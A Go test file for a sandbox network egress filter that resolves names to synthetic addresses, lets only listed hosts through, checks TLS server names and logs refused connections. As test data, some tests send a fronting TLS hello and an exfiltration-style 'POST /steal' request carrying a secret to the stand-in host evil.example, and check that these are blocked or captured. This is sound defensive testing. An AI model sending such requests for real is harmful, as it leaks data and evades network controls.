package outlet

import (
	"bytes"
	"cmp"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	gocmp "github.com/google/go-cmp/cmp"
	"golang.org/x/net/dns/dnsmessage"

	"github.com/sumun-mcp/sumun/internal/dial"
	"github.com/sumun-mcp/sumun/internal/sandbox/box"
)

// A stand is an outlet whose box is this process: instead of an address of the box, a client connects to the listener and says which address
// it means.
type stand struct {
	server *server
	dns    net.Addr
	listen net.Listener

	mu      sync.Mutex
	meant   netip.AddrPort
	refused []string
}

// boxed is a connection that was accepted at an address of the box.
type boxed struct {
	*net.TCPConn
	at netip.AddrPort
}

func (b boxed) LocalAddr() net.Addr { return net.TCPAddrFromAddrPort(b.at) }

// Accept accepts a connection as if it had been made to the address that is meant.
func (s *stand) Accept() (net.Conn, error) {
	conn, err := s.listen.Accept()
	if err != nil {
		return nil, err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	return boxed{conn.(*net.TCPConn), s.meant}, nil
}

func (s *stand) Close() error   { return s.listen.Close() }
func (s *stand) Addr() net.Addr { return s.listen.Addr() }

func (s *stand) told() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.refused)
}

// open starts an outlet. What it connects to for any name is the address to, unless that is empty.
func open(t *testing.T, o Options, to string) *stand {
	t.Helper()
	st := &stand{}
	o.Refused = func(r box.Refusal) {
		st.mu.Lock()
		defer st.mu.Unlock()
		st.refused = append(st.refused, r.Kind+" "+r.Detail)
	}
	s, err := newServer(o)
	if err != nil {
		t.Fatal(err)
	}
	if to != "" {
		s.dial = func(ctx context.Context, network, _ string) (net.Conn, error) {
			return new(net.Dialer).DialContext(ctx, network, to)
		}
	}
	st.server = s
	conn, err := new(net.ListenConfig).ListenPacket(t.Context(), "udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	st.dns = conn.LocalAddr()
	if st.listen, err = new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error)
	go func() { done <- s.serve(ctx, box.Listeners{DNS: conn, TCP: map[int]net.Listener{0: st}}) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("the outlet ended with: %v", err)
		}
	})
	return st
}

// ask sends a question and returns the answer.
func (s *stand) ask(t *testing.T, name string, kind dnsmessage.Type) *dnsmessage.Message {
	t.Helper()
	query := dnsmessage.Message{
		Header:    dnsmessage.Header{ID: 4711, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: dnsmessage.MustNewName(name), Type: kind, Class: dnsmessage.ClassINET}},
	}
	packed, err := query.Pack()
	if err != nil {
		t.Fatal(err)
	}
	conn, err := new(net.Dialer).DialContext(t.Context(), "udp", s.dns.String())
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.Write(packed); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 1500)
	n, err := conn.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	var answer dnsmessage.Message
	if err := answer.Unpack(buf[:n]); err != nil {
		t.Fatal(err)
	}
	if answer.ID != 4711 || !answer.Response {
		t.Errorf("the answer's head is %v", answer.Header)
	}
	return &answer
}

// address returns the synthetic address of a name.
func (s *stand) address(t *testing.T, name string) netip.Addr {
	t.Helper()
	answer := s.ask(t, name+".", dnsmessage.TypeA)
	if len(answer.Answers) != 1 {
		t.Fatalf("%s has the answers %v", name, answer.Answers)
	}
	a, ok := answer.Answers[0].Body.(*dnsmessage.AResource)
	if !ok {
		t.Fatalf("%s has the answer %v", name, answer.Answers[0])
	}
	return netip.AddrFrom4(a.A)
}

// connect connects as if to an address in the box, and fails the test if that is not accepted.
func (s *stand) connect(t *testing.T, addr netip.Addr, port uint16) *net.TCPConn {
	t.Helper()
	conn, err := s.dial(t, addr, port)
	if err != nil {
		t.Fatal(err)
	}
	return conn
}

// dial connects as if to an address in the box. One that is refused at once may end while it is made.
func (s *stand) dial(t *testing.T, addr netip.Addr, port uint16) (*net.TCPConn, error) {
	t.Helper()
	s.mu.Lock()
	s.meant = netip.AddrPortFrom(addr, port)
	s.mu.Unlock()
	conn, err := new(net.Dialer).DialContext(t.Context(), "tcp", s.listen.Addr().String())
	if err != nil {
		return nil, err
	}
	t.Cleanup(func() { _ = conn.Close() })
	return conn.(*net.TCPConn), nil
}

// fails reports how a connection fails, after saying something; an error if it ends like a good one.
func (s *stand) fails(t *testing.T, addr netip.Addr, port uint16, say []byte) error {
	t.Helper()
	conn, err := s.dial(t, addr, port)
	if err != nil {
		return nil //nolint:nilerr // the failure that is wanted
	}
	if len(say) > 0 { // a write of nothing may be told of the failure as well, and the read after it is not
		if _, err := conn.Write(say); err != nil {
			return nil //nolint:nilerr // as above
		}
	}
	_ = conn.SetReadDeadline(time.Now().Add(20 * time.Second))
	read, err := io.ReadAll(conn)
	if err == nil || len(read) > 0 || errors.Is(err, os.ErrDeadlineExceeded) {
		return fmt.Errorf("the client read %q and then %w, want nothing and a failure at once", read, cmp.Or(err, io.EOF))
	}
	return nil
}

func TestNames(t *testing.T) {
	s := open(t, Options{Hosts: []string{"api.example.com", "*.example.org:8443"}}, "")
	first := s.address(t, "api.example.com")
	if !synthetic.Contains(first) {
		t.Errorf("the address is %v, want one of %v", first, synthetic)
	}
	if other := s.address(t, "a.example.org"); other == first {
		t.Errorf("two names have the address %v", first)
	}
	if again := s.address(t, "API.example.com"); again != first {
		t.Errorf("asked again in other letters, the address is %v, was %v", again, first)
	}
	for _, kind := range []dnsmessage.Type{dnsmessage.TypeAAAA, dnsmessage.TypeTXT, 65} {
		if a := s.ask(t, "api.example.com.", kind); a.RCode != dnsmessage.RCodeSuccess || len(a.Answers) > 0 {
			t.Errorf("type %v: %v with %d answers, want none and success", kind, a.RCode, len(a.Answers))
		}
	}
	if told := s.told(); len(told) > 0 {
		t.Errorf("refusals are told: %q", told)
	}
	for _, name := range []string{"evil.example.", "example.org.", "example.com.", "xapi.example.com.", "api.example.com.evil.example.", "8.8.8.8.", "a b\\.example."} {
		if a := s.ask(t, name, dnsmessage.TypeA); a.RCode != dnsmessage.RCodeNameError || len(a.Answers) > 0 {
			t.Errorf("%s: %v with answers %v", name, a.RCode, a.Answers)
		}
	}
	want := []string{"name evil.example", "name example.org", "name example.com", "name xapi.example.com", "name api.example.com.evil.example", "name 8.8.8.8", `name a\x20b\x5c.example`}
	if diff := gocmp.Diff(want, s.told()); diff != "" {
		t.Errorf("told (-want +got):\n%s", diff)
	}
}

// TestNoHosts has an outlet that lets nothing out, and tells what was wanted.
func TestNoHosts(t *testing.T) {
	s := open(t, Options{}, "")
	if a := s.ask(t, "example.com.", dnsmessage.TypeA); a.RCode != dnsmessage.RCodeNameError {
		t.Errorf("the answer is %v", a)
	}
	s.server.names.address("example.com")
	if err := s.fails(t, synthetic.Addr().Next(), 443, nil); err != nil {
		t.Error(err)
	}
	want := []string{"name example.com", "connect example.com:443: hosts does not list it"}
	if diff := gocmp.Diff(want, s.told()); diff != "" {
		t.Errorf("told (-want +got):\n%s", diff)
	}
}

func TestTooManyNames(t *testing.T) {
	var n names
	last := netip.Addr{}
	for i := range maxNames {
		addr, ok := n.address(strconv.Itoa(i))
		if name, found := n.name(addr); !ok || !found || name != strconv.Itoa(i) {
			t.Fatalf("name %d has the address %v, which is %q", i, addr, name)
		}
		last = addr
	}
	if addr, ok := n.address("more"); ok {
		t.Errorf("one more name has the address %v", addr)
	}
	for _, addr := range []netip.Addr{synthetic.Addr(), last.Next(), netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("::1"), netip.MustParseAddr("198.20.0.1")} {
		if name, ok := n.name(addr); ok {
			t.Errorf("%v is %q", addr, name)
		}
	}
}

// TestHTTPS asks a server over TLS through the outlet, as any client would that knows nothing of it.
func TestHTTPS(t *testing.T) {
	web := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		fmt.Fprintf(w, "%s had %d bytes for %s", r.Proto, len(body), r.TLS.ServerName)
	}))
	t.Cleanup(web.Close)
	s := open(t, Options{Hosts: []string{"example.com"}}, web.Listener.Addr().String())
	addr := s.address(t, "example.com")

	client := web.Client()
	transport := client.Transport.(*http.Transport).Clone()
	transport.DialContext = func(context.Context, string, string) (net.Conn, error) { return s.connect(t, addr, 443), nil } //nolint:contextcheck // the test's
	client.Transport = transport
	t.Cleanup(transport.CloseIdleConnections)
	r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, "https://example.com/", bytes.NewReader(make([]byte, 3<<20)))
	if err != nil {
		t.Fatal(err)
	}
	resp, err := client.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	got, err := io.ReadAll(resp.Body)
	if want := "HTTP/1.1 had 3145728 bytes for example.com"; err != nil || string(got) != want {
		t.Errorf("the answer is %q, %v; want %q", got, err, want)
	}
	if told := s.told(); len(told) > 0 {
		t.Errorf("refusals are told: %q", told)
	}
}

// ends reports how a connection ends for its client, after what it has read.
func ends(t *testing.T, conn net.Conn) (read string, err error) {
	t.Helper()
	_ = conn.SetReadDeadline(time.Now().Add(20 * time.Second))
	b, err := io.ReadAll(conn)
	if errors.Is(err, os.ErrDeadlineExceeded) {
		t.Fatal("the connection does not end")
	}
	return string(b), err
}

// hello returns the first bytes that a client of TLS sends to ask for name.
func hello(tb testing.TB, name string) []byte {
	tb.Helper()
	client, server := net.Pipe()
	defer client.Close()
	var raw []byte
	var work sync.WaitGroup
	work.Go(func() {
		buf := make([]byte, 32<<10)
		n, _ := server.Read(buf)
		raw = buf[:n]
		_ = server.Close()
	})
	_ = tls.Client(client, &tls.Config{ServerName: name, InsecureSkipVerify: true}).HandshakeContext(tb.Context())
	work.Wait()
	return raw
}

func TestRefused(t *testing.T) {
	web := httptest.NewTLSServer(http.NotFoundHandler())
	t.Cleanup(web.Close)
	hosts := []string{"example.com", "plain.example.com:8080", "example.com:8080"}
	none := netip.MustParseAddr("198.18.200.200")
	tests := []struct {
		name string
		host string // empty for an address that none has
		port uint16
		say  []byte
		want string
	}{
		{"another name (fronting)", "example.com", 443, hello(t, "evil.example"), "example.com:443: the client asks for another server there, evil.example"},
		{"a name below", "example.com", 443, hello(t, "a.example.com"), "example.com:443: the client asks for another server there, a.example.com"},
		{"no name", "example.com", 443, hello(t, "127.0.0.1"), "example.com:443: the client does not say which server it asks for (no SNI)"},
		{"raw bytes", "example.com", 443, []byte("SSH-2.0-OpenSSH_9.2\r\n"), "example.com:443: the client speaks no TLS"},
		{"plain HTTP", "example.com", 443, []byte("GET / HTTP/1.1\r\nHost: example.com\r\n\r\n"), "example.com:443: the client speaks no TLS"},
		{"another name on a port of anything", "example.com", 8080, hello(t, "evil.example"), "example.com:8080: the client asks for another server there, evil.example"},
		{"a port of another host", "plain.example.com", 443, hello(t, "plain.example.com"), "plain.example.com:443: hosts does not list it"},
		{"an address without a name", "", 443, hello(t, "example.com"), "198.18.200.200:443: an address that no name has"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := open(t, Options{Hosts: hosts}, web.Listener.Addr().String())
			addr := none
			if tt.host != "" {
				addr = s.address(t, tt.host)
			}
			if err := s.fails(t, addr, tt.port, tt.say); err != nil {
				t.Error(err)
			}
			if diff := gocmp.Diff([]string{"connect " + tt.want}, s.told()); diff != "" {
				t.Errorf("told (-want +got):\n%s", diff)
			}
		})
	}
}

// TestPrivate has allowed names lead to addresses that are not public. The system resolves localhost to one.
func TestPrivate(t *testing.T) {
	listener, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = listener.Close() })
	port := listener.Addr().(*net.TCPAddr).Port
	hosts := []string{fmt.Sprintf("localhost:%d", port)}

	s := open(t, Options{Hosts: hosts}, "")
	if err := s.fails(t, s.address(t, "localhost"), uint16(port), nil); err != nil {
		t.Error(err)
	}
	if told := s.told(); len(told) != 1 || !strings.HasSuffix(told[0], fmt.Sprintf("its address, 127.0.0.1:%d, is not public", port)) {
		t.Errorf("told: %q", told)
	}

	s = open(t, Options{Hosts: hosts, Private: []string{"localhost"}}, "")
	conn := s.connect(t, s.address(t, "localhost"), uint16(port))
	server, err := listener.Accept()
	if err != nil {
		t.Fatal(err)
	}
	_ = server.Close()
	if _, err := ends(t, conn); err != nil || len(s.told()) > 0 {
		t.Errorf("allowed as private, it ends with %v, told %q", err, s.told())
	}
	if err := Check(hosts); err != nil {
		t.Error(err)
	}
}

// TestLoopback has connections to the box's own loopback address, which lead to this machine's where it is listed and private ones are allowed.
func TestLoopback(t *testing.T) {
	listener, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = listener.Close() })
	port, here := uint16(listener.Addr().(*net.TCPAddr).Port), netip.MustParseAddr("127.0.0.1")
	tests := []struct {
		host, private, want string
	}{
		{"localhost", "localhost", ""},
		{"127.0.0.1", "127.0.0.0/8", ""},
		{"localhost", "", "is not public"},
		{"example.com", "127.0.0.0/8", "an address that no name has"},
	}
	for _, tt := range tests {
		t.Run(tt.host+" "+tt.private, func(t *testing.T) {
			o := Options{Hosts: []string{fmt.Sprintf("%s:%d", tt.host, port)}}
			if tt.private != "" {
				o.Private = []string{tt.private}
			}
			s := open(t, o, "")
			if tt.want != "" {
				if err := s.fails(t, here, port, nil); err != nil || len(s.told()) != 1 || !strings.Contains(s.told()[0], tt.want) {
					t.Errorf("%v, told %q", err, s.told())
				}
				return
			}
			conn := s.connect(t, here, port)
			server, err := listener.Accept()
			if err != nil {
				t.Fatal(err)
			}
			_ = server.Close()
			if _, err := ends(t, conn); err != nil || len(s.told()) > 0 {
				t.Errorf("it ends with %v, told %q", err, s.told())
			}
		})
	}
}

// TestSink has a network that takes everything and leads nowhere.
func TestSink(t *testing.T) {
	var mu sync.Mutex
	var seen []string
	visited := make(chan struct{}, 16)
	s := open(t, Options{Sink: func(v Visit) {
		mu.Lock()
		defer mu.Unlock()
		seen = append(seen, fmt.Sprintf("%s%s %s %d", v.Name, v.Host, v.What, len(v.Sent)))
		visited <- struct{}{}
	}}, "127.0.0.1:1")
	addr := s.address(t, "evil.example")
	request := "POST /steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 6\r\n\r\nsecret"
	conn := s.connect(t, addr, 80)
	if _, err := io.WriteString(conn, request); err != nil {
		t.Fatal(err)
	}
	if read, err := ends(t, conn); err != nil || !strings.HasPrefix(read, "HTTP/1.1 200 OK\r\n") {
		t.Errorf("the answer is %q, %v", read, err)
	}
	raw := hello(t, "evil.example")
	for _, say := range [][]byte{raw, []byte("raw bytes\n")} {
		conn := s.connect(t, netip.MustParseAddr("1.2.3.4"), 443)
		if _, err := conn.Write(say); err != nil {
			t.Fatal(err)
		}
		_ = conn.CloseWrite()
		if read, err := ends(t, conn); err != nil && read != "" {
			t.Errorf("the answer is %q, %v", read, err)
		}
	}
	for range 4 {
		<-visited
	}
	mu.Lock()
	defer mu.Unlock()
	want := []string{
		"evil.example  0", fmt.Sprintf("evil.example:80 POST /steal %d", len(request)), fmt.Sprintf("1.2.3.4:443 TLS for evil.example %d", len(raw)), "1.2.3.4:443 10 bytes 10",
	}
	if diff := gocmp.Diff(want, seen); diff != "" {
		t.Errorf("seen (-want +got):\n%s", diff)
	}
	if told := s.told(); len(told) > 0 {
		t.Errorf("refusals are told: %q", told)
	}
}

// TestHalfClose ends one direction; what the server then says still arrives. The server speaks first, as those of mail do.
func TestHalfClose(t *testing.T) {
	listener, err := new(net.ListenConfig).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = listener.Close() })
	var work sync.WaitGroup
	defer work.Wait()
	work.Go(func() {
		conn, err := listener.Accept()
		if err != nil {
			return
		}
		defer conn.Close()
		_, _ = io.WriteString(conn, "220 welcome\n")
		all, _ := io.ReadAll(conn)
		fmt.Fprintf(conn, "got %d bytes", len(all))
	})
	s := open(t, Options{Hosts: []string{"mail.example.com:25"}}, listener.Addr().String())
	conn := s.connect(t, s.address(t, "mail.example.com"), 25)
	welcome := make([]byte, 12)
	if _, err := io.ReadFull(conn, welcome); err != nil || string(welcome) != "220 welcome\n" {
		t.Fatalf("the server's first words are %q, %v", welcome, err)
	}
	if _, err := conn.Write(make([]byte, 100_000)); err != nil {
		t.Fatal(err)
	}
	if err := conn.CloseWrite(); err != nil {
		t.Fatal(err)
	}
	if read, err := ends(t, conn); err != nil || read != "got 100000 bytes" {
		t.Errorf("read %q, %v", read, err)
	}
}

func TestConnectionsAtOnce(t *testing.T) {
	s := open(t, Options{Hosts: []string{"example.com"}}, "127.0.0.1:1")
	s.server.slots = make(chan struct{}, 2)
	addr := s.address(t, "example.com")
	first, second := s.connect(t, addr, 443), s.connect(t, addr, 443)
	if err := s.fails(t, addr, 443, nil); err != nil {
		t.Errorf("the third connection: %v", err)
	}
	if told := s.told(); len(told) != 1 || !strings.HasPrefix(told[0], "limit ") {
		t.Errorf("told: %q", told)
	}
	_, _ = first.Close(), second.Close()
}

// TestIdle has nothing move on a connection; and something move in one direction only, which keeps the other.
func TestIdle(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		program, client := net.Pipe()
		server, host := net.Pipe()
		start := time.Now()
		done := make(chan struct{})
		go func() {
			relay(client, server, client, time.Minute)
			close(done)
		}()
		go func() { _, _ = io.Copy(io.Discard, program) }()
		for range 10 {
			time.Sleep(50 * time.Second)
			if _, err := host.Write([]byte("x")); err != nil {
				t.Errorf("after %v: %v", time.Since(start), err)
			}
		}
		<-done
		if took := time.Since(start); took < 9*time.Minute || took > 10*time.Minute {
			t.Errorf("the connection was over after %v, want a minute after the last byte", took)
		}
		_, _ = program.Close(), host.Close()
	})
}

func TestOptions(t *testing.T) {
	if diff := gocmp.Diff([]int{25, 443, 8443}, Ports([]string{"b:8443", "a", "c:25", "*.d:443", "e:0"})); diff != "" {
		t.Errorf("ports (-want +got):\n%s", diff)
	}
	for _, hosts := range [][]string{{""}, {"*"}, {"a:b"}, {"a:0"}, {"a:99999"}, {"a_b..c"}, {"http://a"}, {"*.1.2.3.4"}} {
		if err := Check(hosts); err == nil {
			t.Errorf("%q are taken", hosts)
		}
	}
	if err := Check([]string{"example.com", "*.example.com:8443"}); err != nil {
		t.Error(err)
	}
	if _, err := newServer(Options{Hosts: []string{"a"}, Private: []string{"::/x"}}); err == nil {
		t.Error("a network that is none is taken")
	}
	if errors.Is(Check([]string{"a"}), dial.ErrRefused) {
		t.Error("a good host is refused")
	}
}
